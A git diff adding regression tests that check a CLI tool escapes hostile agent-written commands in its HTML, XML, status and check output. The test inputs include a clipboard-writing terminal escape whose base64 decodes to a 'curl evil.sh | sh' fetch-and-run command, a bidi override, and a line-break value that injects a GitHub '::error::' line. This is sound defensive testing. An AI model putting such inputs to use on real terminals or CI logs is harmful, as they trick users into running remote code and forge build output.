@@ -6,6 +6,9 @@ import { displayName, terminalLines, terminalText } from '../../src/output/termi
 import { workflowCommand } from '../../src/envelope/formats/github.js';
 import { xmlText } from '../../src/envelope/formats/junit.js';
 import { call, samples } from '../telemetry/reduce/helpers.js';
+import { repo } from '../envelope/support.js';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 
 // Issue 29: a model-controlled command reaches `cordon reduce` and `cordon analyze` (text and
 // Markdown) escaped, whatever control sequence it carries.
@@ -97,6 +100,37 @@ describe('reduce and analyze print what an agent wrote escaped', () => {
       expect(line.split(/(?<!\\)\|/).length).toBeGreaterThan(2);
     }
   }, 120_000);
+
+  // Found by a hostile-input probe: the HTML report escaped markup but kept ESC, BEL and a
+  // session id's line break raw (`cat report.html` ran them).
+  it('cordon analyze --format html escapes controls and bidi characters too, besides markup', async () => {
+    call(sandbox.dataDir, 'evil-session', 'k-bidi', T + 1500, T + 1600, { tool_name: 'Edit\u202ex', command: 'cat report.txt' });
+    const html = await runCordon(['analyze', '--session', 'evil-session', '--format', 'html'], { env: sandbox.env });
+    expect(html.exitCode, html.stderr).toBe(0);
+    for (const line of html.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
+    expect(html.stdout).not.toContain('\u202e');
+    expect(html.stdout).toContain("printf &#39;x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007&#39;");
+    expect(html.stdout).toContain('<td>Edit\\u202ex</td>');
+  }, 120_000);
+
+  // Found by a hostile-input probe: a verifier command holding a line break printed it raw in
+  // `status` and in a rejected verdict, so the command's text could start a line (`::error::…`).
+  it('cordon status and check print a verifier command with a line break on one line', async () => {
+    const dir = repo({ 'src/a.txt': 'a\n' });
+    const command = "sh -c 'exit 1' \"x\n::error::injected\"";
+    expect((await runCordon(['arm', 'x', '--allow', 'src/**', '--verify', command], { cwd: dir, env: sandbox.env })).exitCode).toBe(0);
+    writeFileSync(join(dir, 'src/a.txt'), 'b\n');
+    const status = await runCordon(['status'], { cwd: dir, env: sandbox.env });
+    expect(status.stdout).toContain(`verify: sh -c 'exit 1' "x\\u000a::error::injected"`);
+    const check = await runCordon(['check'], { cwd: dir, env: sandbox.env });
+    expect(check.exitCode).toBe(3);
+    for (const out of [status.stdout, check.stdout]) expect(out.split('\n').filter((line) => line.startsWith('::'))).toEqual([]);
+    expect(check.stdout).toContain('\\u000a::error::injected');
+  }, 120_000);
+
+  it('JUnit XML and HTML text show controls and bidi characters as escapes; line breaks and tabs stay', () => {
+    expect(xmlText('a\u001b]0;t\u0007 b\u202ec\nd\te<')).toBe('a\\u001b]0;t\\u0007 b\\u202ec\nd&#9;e&lt;');
+  });
 });
 
 describe('the plain-ASCII shortcut of terminalText, terminalLines and displayName', () => {
